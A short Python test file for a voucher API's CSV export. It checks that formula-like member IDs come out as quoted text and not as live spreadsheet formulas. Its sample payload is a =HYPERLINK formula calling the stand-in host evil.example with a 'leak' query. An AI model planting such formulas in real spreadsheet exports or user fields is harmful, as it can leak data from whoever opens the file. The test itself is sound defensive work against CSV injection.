"""The API's voucher CSV (and `voucher-central batch export`): formula cells open as text (issue 13)."""

from __future__ import annotations

import csv

HYPERLINK_MEMBER = '=HYPERLINK("http://evil.example/?leak","Invoice")@evil.example'


def test_a_formula_member_id_is_exported_as_text(api):
    batch = api.batch(3)
    api.claim(batch, HYPERLINK_MEMBER)
    api.claim(batch, "+ann@example.com")
    response = api.call(
        "GET", f"/batches/{batch['id']}/vouchers", 200, params={"format": "csv", "claimed": "true"}
    )
    rows = list(csv.DictReader(response.text.splitlines()))
    members = sorted(r["member_id"] for r in rows)
    assert members == ["'+ann@example.com", "'" + HYPERLINK_MEMBER.casefold()]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
